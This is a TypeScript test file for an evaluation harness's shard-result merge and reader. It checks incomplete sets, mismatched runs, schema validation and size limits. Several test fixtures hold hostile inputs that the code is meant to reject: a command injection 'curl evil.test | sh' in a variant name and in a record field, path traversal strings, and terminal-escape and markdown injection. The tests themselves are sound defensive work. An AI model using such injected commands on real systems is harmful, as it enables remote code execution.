import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../core/errors.js';
import { buildReport } from '../report/build-report.js';
import { renderTerminal } from '../report/terminal.js';
import { makeRecord } from '../report/testing/records.js';
import { shardOfTrial } from '../spec/shard.js';
import type { TrialRecord } from '../spec/trial-record.js';
import { MAX_SHARD_BYTES, mergeShardResults, readShardResults } from './shard-result.js';
import type { ShardResult } from './shard-result-schema.js';

/** Eight tasks x 2 variants x 3 trials with mixed outcomes, a stale trial and a floor. */
function wholeRun(): TrialRecord[] {
  const records: TrialRecord[] = [];
  for (const [index, task] of ['T1', 'T2', 'T3', 'T4', 'T5', 'T6', 'D1', 'D2'].entries()) {
    for (const variant of ['baseline', 'upgraded']) {
      for (const trial of [1, 2, 3]) {
        const seed = index * 7 + trial * (variant === 'baseline' ? 3 : 5);
        records.push(
          makeRecord({
            suite: task.startsWith('D') ? 'debug-agent' : 'refund-desk',
            task,
            variant,
            trial,
            outcome: seed % 11 === 0 ? 'stale' : seed % 3 === 0 ? 'failed' : 'passed',
            cassetteHash: `hash-${task}-${variant}-${trial}`,
            host: '127.0.0.1:4010',
          }),
        );
      }
    }
  }
  return records;
}

const floors = [{ task: 'T1', floor: { variant: 'upgraded', passAt1: 0.5 } }];

/** The (suite, task, variant) rows the task files of `wholeRun` declare, as keyOf keys. */
const declared = [
  ...new Set(
    wholeRun().map((record) => JSON.stringify([record.suite, record.task, record.variant])),
  ),
];

/** Deal the records to `count` shards the way defineTask does, in shuffled record order. */
function shards(records: readonly TrialRecord[], count: number) {
  const results: Array<{ file: string; result: ShardResult }> = [];
  for (let index = 1; index <= count; index++) {
    const positions = new Map<string, number>();
    const mine = records.filter((record) => {
      const key = `${record.suite}/${record.task}`;
      const position = positions.get(key) ?? 0;
      positions.set(key, position + 1);
      return shardOfTrial(key, position, count) === index;
    });
    results.push({
      file: `shard-${index}-of-${count}.json`,
      result: {
        kind: 'harness-evals-shard',
        version: 2,
        commit: null,
        shard: { index, count },
        trials: 3,
        selection: { trials: 3 },
        records: mine.reverse(),
        floors,
        loadErrors: [],
        declared,
      },
    });
  }
  return results.reverse();
}

describe('mergeShardResults', () => {
  it('gives the same report from 4 merged shards as from one unsharded run, except the timestamp', () => {
    const records = wholeRun();
    const reference = buildReport({
      records: records.map((record) => ({ ...record, outcome: 'passed', cassetteHash: 'old' })),
      trials: 3,
      floors,
      generatedAt: 'then',
    });
    const options = { trials: 3, floors, reference };
    const unsharded = buildReport({ ...options, records, generatedAt: '2026-01-01T00:00:00Z' });
    const parts = shards(records, 4);
    // 48 trials dealt by trial: about 12 per shard.
    for (const { result } of parts) {
      expect(Math.abs(result.records.length - 12)).toBeLessThanOrEqual(4);
    }
    expect(parts.reduce((sum, { result }) => sum + result.records.length, 0)).toBe(48);
    const merged = mergeShardResults(parts);
    const report = buildReport({
      ...options,
      records: merged.records,
      generatedAt: '2026-02-02T00:00:00Z',
    });
    expect({ ...report, generatedAt: '' }).toEqual({ ...unsharded, generatedAt: '' });
    expect(merged.floors).toEqual(floors);
    expect(report.gate.reasons.length).toBeGreaterThan(0);
  });

  it('refuses an incomplete set, naming the missing shard', () => {
    const parts = shards(wholeRun(), 4).filter(({ result }) => result.shard.index !== 3);
    expect(() => mergeShardResults(parts)).toThrow(ConfigError);
    expect(() => mergeShardResults(parts)).toThrow(/missing shard 3\/4/);
  });

  it('refuses shards of different runs and a trial that two shards ran', () => {
    const parts = shards(wholeRun(), 2);
    const other = { ...parts[0]!, result: { ...parts[0]!.result, selection: { trials: 5 } } };
    expect(() => mergeShardResults([other, parts[1]!])).toThrow(/belongs to another run/);
    const doubled = {
      ...parts[0]!,
      result: {
        ...parts[0]!.result,
        records: [...parts[0]!.result.records, parts[1]!.result.records[0]!],
      },
    };
    expect(() => mergeShardResults([doubled, parts[1]!])).toThrow(/is in another shard too/);
    expect(() => mergeShardResults([])).toThrow(/no shard results/);
  });
});

/** `parts` without the records `drop` picks. */
function without(
  parts: ReturnType<typeof shards>,
  drop: (record: TrialRecord) => boolean,
): ReturnType<typeof shards> {
  return parts.map(({ file, result }) => ({
    file,
    result: { ...result, records: result.records.filter((record) => !drop(record)) },
  }));
}

describe('mergeShardResults: every selected trial once, nothing else', () => {
  const failedOf = (records: readonly TrialRecord[], task: string, variant: string) =>
    records.find((r) => r.task === task && r.variant === variant && r.outcome === 'failed')!;

  it('refuses shards that lack one selected trial, naming it and the fix', () => {
    const dropped = failedOf(wholeRun(), 'T1', 'upgraded');
    const parts = without(
      shards(wholeRun(), 2),
      (record) =>
        record.task === dropped.task &&
        record.variant === dropped.variant &&
        record.trial === dropped.trial,
    );
    const error = (() => {
      try {
        mergeShardResults(parts);
        return undefined;
      } catch (caught) {
        return caught;
      }
    })();
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as Error).message).toMatch(
      new RegExp(
        `^cannot merge: no shard has a record of T1 upgraded trial ${dropped.trial}, which the shards' selection \\(--trials 3\\) selects; .*re-run the shards of this run`,
      ),
    );
  });

  it('refuses shards that lack a whole task, naming every trial of it', () => {
    const parts = without(shards(wholeRun(), 2), (record) => record.task === 'T3');
    expect(() => mergeShardResults(parts)).toThrow(
      /no shard has a record of T3 baseline trials 1, 2, 3, T3 upgraded trials 1, 2, 3,/,
    );
  });

  it.each([
    [
      'a task no task file declares',
      { task: 'T9' },
      /T9 upgraded trial 1 \(refund-desk\): no task file declares it/,
    ],
    [
      'a trial above the selected trials',
      { trial: 4 },
      /T1 upgraded trial 4 \(refund-desk\): not one of the selected trials 1, 2, 3/,
    ],
    [
      'another suite',
      { suite: 'other' },
      /T1 upgraded trial 1 \(other\): no task file declares it/,
    ],
  ])('refuses a record of %s', (_, overrides, message) => {
    const parts = shards(wholeRun(), 2);
    parts[0]!.result.records.push(makeRecord({ ...overrides, cassetteHash: 'x' }));
    expect(() => mergeShardResults(parts)).toThrow(ConfigError);
    expect(() => mergeShardResults(parts)).toThrow(message);
    expect(() => mergeShardResults(parts)).toThrow(/is outside the selection the shards ran/);
  });

  it('quotes a name that holds control characters instead of printing them', () => {
    const parts = shards(wholeRun(), 2);
    parts[0]!.result.records.push(makeRecord({ variant: 'up\u001b[2Jgraded\n' }));
    expect(() => mergeShardResults(parts)).toThrow(
      /: T1 "up\\u001b\[2Jgraded\\n" trial 1 \(refund-desk\): no task file declares it;/,
    );
  });

  it('refuses a record of a variant, task or suite the selection left out', () => {
    const records = wholeRun().filter(
      (record) => record.variant === 'upgraded' && record.task === 'T2',
    );
    const parts = shards(records, 2).map(({ file, result }) => ({
      file,
      result: { ...result, selection: { trials: 3, tasks: ['t2'], variants: ['upgraded'] } },
    }));
    // The selection as given: every selected trial present merges (task names are case-blind).
    expect(mergeShardResults(parts).records).toHaveLength(3);
    for (const overrides of [{ variant: 'baseline' }, { task: 'T1' }]) {
      const extra = structuredClone(parts);
      extra[1]!.result.records.push(makeRecord({ task: 'T2', ...overrides }));
      expect(() => mergeShardResults(extra)).toThrow(
        /not selected by --task t2 --variant upgraded/,
      );
    }
  });

  it('takes the trial numbers from the selection (--trial 2,3)', () => {
    const records = wholeRun().filter((record) => record.trial !== 1);
    const parts = shards(records, 2).map(({ file, result }) => ({
      file,
      result: { ...result, trials: 2, selection: { trials: 3, trialNumbers: [2, 3] } },
    }));
    expect(mergeShardResults(parts).records).toHaveLength(records.length);
    parts[0]!.result.records.push(makeRecord({ trial: 1 }));
    expect(() => mergeShardResults(parts)).toThrow(/not one of the selected trials 2, 3/);
  });

  it('lets a shard that reported errors lack trials, and names them as a gate reason', () => {
    // A trial that hung in its shard has no record, only the shard's error: the gate fails on it.
    const dropped = failedOf(wholeRun(), 'T1', 'upgraded');
    const parts = without(
      shards(wholeRun(), 2),
      (record) =>
        record.task === 'T1' && record.variant === 'upgraded' && record.trial === dropped.trial,
    );
    const holder = parts.find(({ result }) =>
      shards(wholeRun(), 2)
        .find((part) => part.result.shard.index === result.shard.index)
        ?.result.records.some(
          (record) =>
            record.task === 'T1' && record.variant === 'upgraded' && record.trial === dropped.trial,
        ),
    )!;
    holder.result.loadErrors.push(`refund-desk > T1 > upgraded trial ${dropped.trial} timed out`);
    const merged = mergeShardResults(parts);
    expect(merged.loadErrors).toContain(
      `no shard has a record of T1 upgraded trial ${dropped.trial}; the shards reported the errors above`,
    );
  });

  it('refuses shards that disagree on the trials per task', () => {
    const parts = shards(wholeRun(), 2);
    parts[1]!.result.trials = 2;
    expect(() => mergeShardResults(parts)).toThrow(/belongs to another run/);
  });
});

describe('readShardResults', () => {
  const valid = (index: number, count: number): ShardResult => ({
    kind: 'harness-evals-shard',
    version: 2,
    commit: null,
    shard: { index, count },
    trials: 1,
    selection: { trials: 1 },
    records: [],
    floors: [],
    loadErrors: [],
    declared: [],
  });
  const folderWith = (files: Record<string, string>) => {
    const dir = mkdtempSync(join(tmpdir(), 'shards-'));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
    return dir;
  };

  it.each([
    ['invalid JSON', { 'shard-1-of-1.json': '{"kind":' }, /is not valid JSON/],
    ['another kind of file', { 'shard-1-of-1.json': '{"kind":"report"}' }, /shard-1-of-1\.json/],
    [
      'a shard index above the count, planted beside a complete set',
      {
        'shard-1-of-2.json': JSON.stringify(valid(1, 2)),
        'shard-2-of-2.json': JSON.stringify(valid(2, 2)),
        'shard-3-of-2.json': JSON.stringify(valid(3, 2)),
      },
      /shard index is above the shard count/,
    ],
    [
      'the same shard twice',
      {
        'shard-1-of-2.json': JSON.stringify(valid(1, 2)),
        'shard-2-of-2.json': JSON.stringify(valid(1, 2)),
      },
      /shard 1\/2 given twice/,
    ],
    ['no shard file', {}, /no shard-<i>-of-<n>\.json in it/],
    [
      'a record whose task is no task id (markdown in it)',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          records: [makeRecord({ task: 'X9\n```\n## Gate: passed' })],
        }),
      },
      /shard-1-of-1\.json: records\.0\.task: not a task id/,
    ],
    [
      'a record with negative stats (one stats schema, shared with the runtime)',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          records: [{ ...makeRecord({ task: 'T1' }), stats: { ...makeRecord().stats, steps: -1 } }],
        }),
      },
      /shard-1-of-1\.json: records\.0\.stats\.steps/,
    ],
    [
      'a record whose variant is no variant name (a command in it)',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          records: [makeRecord({ task: 'T1', variant: 'v1; curl evil.test | sh' })],
        }),
      },
      /shard-1-of-1\.json: records\.0\.variant: not a variant name/,
    ],
    [
      'a record whose case is no case id (a path out of fixtures/)',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          records: [makeRecord({ task: 'T1', case: '../../../etc' })],
        }),
      },
      /shard-1-of-1\.json: records\.0\.case: not a case id/,
    ],
    [
      'a case list with a path in it',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          cases: { '["s","T1"]': ['q1', '../x'] },
        }),
      },
      /shard-1-of-1\.json: cases\..*: not a case id/,
    ],
    [
      'a record that carries its own re-record command (the report builds it)',
      {
        'shard-1-of-1.json': JSON.stringify({
          ...valid(1, 1),
          records: [{ ...makeRecord({ task: 'T1' }), rerecordCommand: 'curl evil.test | sh' }],
        }),
      },
      /shard-1-of-1\.json: records\.0: Unrecognized key: "rerecordCommand"/,
    ],
    [
      'a shard of the version before commits were recorded',
      { 'shard-1-of-1.json': JSON.stringify({ ...valid(1, 1), version: 1, commit: undefined }) },
      /shard-1-of-1\.json is a version 1 shard result, this build reads version 2: re-run the shards with this build/,
    ],
    [
      'shards of other commits',
      {
        'shard-1-of-2.json': JSON.stringify({ ...valid(1, 2), commit: 'a'.repeat(40) }),
        'shard-2-of-2.json': JSON.stringify({ ...valid(2, 2), commit: 'b'.repeat(40) }),
      },
      /shard-2-of-2\.json ran at commit b{40}, .*shard-1-of-2\.json at a{40}: merge the shards of one commit only/,
    ],
    [
      'a lenient shard with strict ones',
      {
        'shard-1-of-2.json': JSON.stringify({
          ...valid(1, 2),
          selection: { trials: 1, matching: 'strict' },
        }),
        'shard-2-of-2.json': JSON.stringify({
          ...valid(2, 2),
          selection: { trials: 1, matching: 'lenient' },
        }),
      },
      /shard-2-of-2\.json belongs to another run .*"matching":"lenient".*merge the shards of one run only/,
    ],
    [
      'a declared row that is not a [suite, task, variant] row',
      { 'shard-1-of-1.json': JSON.stringify({ ...valid(1, 1), declared: ['T1'] }) },
      /shard-1-of-1\.json: declared holds "T1", not a \["suite","task","variant"\] row/,
    ],
  ])('refuses %s with a ConfigError naming it', async (_, files, message) => {
    const dir = folderWith(files);
    try {
      const error = await readShardResults(dir).catch((caught: unknown) => caught);
      expect(error).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toMatch(message);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses a shard file that cannot be read (a folder by that name) with a ConfigError', async () => {
    const dir = folderWith({});
    mkdirSync(join(dir, 'shard-1-of-1.json'));
    try {
      await expect(readShardResults(dir)).rejects.toThrow(
        /shard-1-of-1\.json cannot be read \(a directory, not a regular file\); re-run that shard/,
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses a shard file past its size before reading a byte of it', async () => {
    // The break: a 1 MB shard file grew to gigabytes; a file of any size was read and parsed.
    const dir = folderWith({ 'shard-1-of-1.json': '' });
    truncateSync(join(dir, 'shard-1-of-1.json'), MAX_SHARD_BYTES + 1);
    try {
      await expect(readShardResults(dir)).rejects.toThrow(
        /shard-1-of-1\.json is 64\.0 MiB, more than a shard result holds \(at most 64\.0 MiB\): it was not written by npm run eval -- --shard; re-run the shards/,
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('reads a shard whose record holds a 1 MB message, and the report stays readable', async () => {
    const word = 'x'.repeat(1_000_000);
    const record = makeRecord({ task: 'T1', outcome: 'failed', messages: [`expected ${word}`] });
    const dir = folderWith({
      'shard-1-of-1.json': JSON.stringify({
        ...valid(1, 1),
        records: [record],
        declared: [JSON.stringify(['refund-desk', 'T1', 'upgraded'])],
      }),
    });
    try {
      const merged = await readShardResults(dir);
      const report = buildReport({
        records: merged.records,
        trials: 1,
        floors: [],
        generatedAt: 'x',
      });
      const terminal = renderTerminal(report);
      expect(terminal.split('\n').length).toBeLessThan(200);
      expect(report.failures[0]?.messages[0]).toMatch(
        /\[truncated: 20000 of 1000009 characters kept\]$/,
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('names a folder that does not exist', async () => {
    await expect(readShardResults(join(tmpdir(), 'no-such-shards-folder'))).rejects.toThrow(
      /no such folder/,
    );
  });
});

describe('mergeShardResults of a task over cases', () => {
  /** T7 over five cases x 2 variants x 3 trials, dealt to `count` shards as defineTask deals them. */
  function datasetShards(count: number) {
    const cases = ['q1', 'q2', 'q3', 'q4', 'q5'];
    const records = ['baseline', 'upgraded'].flatMap((variant) =>
      cases.flatMap((testCase) =>
        [1, 2, 3].map((trial) => makeRecord({ task: 'T7', variant, case: testCase, trial })),
      ),
    );
    return shards(records, count).map(({ file, result }) => ({
      file,
      result: {
        ...result,
        declared: [
          JSON.stringify(['refund-desk', 'T7', 'baseline']),
          JSON.stringify(['refund-desk', 'T7', 'upgraded']),
        ],
        cases: { [JSON.stringify(['refund-desk', 'T7'])]: cases },
      },
    }));
  }

  it('deals cases as well as trials, and merges them back whole', () => {
    const parts = datasetShards(3);
    for (const { result } of parts) {
      expect(new Set(result.records.map((record) => record.case)).size).toBeGreaterThan(1);
      expect(Math.abs(result.records.length - 10)).toBeLessThanOrEqual(2);
    }
    expect(mergeShardResults(parts).records).toHaveLength(30);
  });

  it("refuses a merge that lacks a case's trial, naming the case", () => {
    const parts = datasetShards(2);
    const [first] = parts;
    first!.result.records = first!.result.records.filter(
      (record) => !(record.case === 'q4' && record.variant === 'upgraded'),
    );
    expect(() => mergeShardResults(parts)).toThrow(
      /no shard has a record of T7 upgraded case q4 trial/,
    );
  });
});
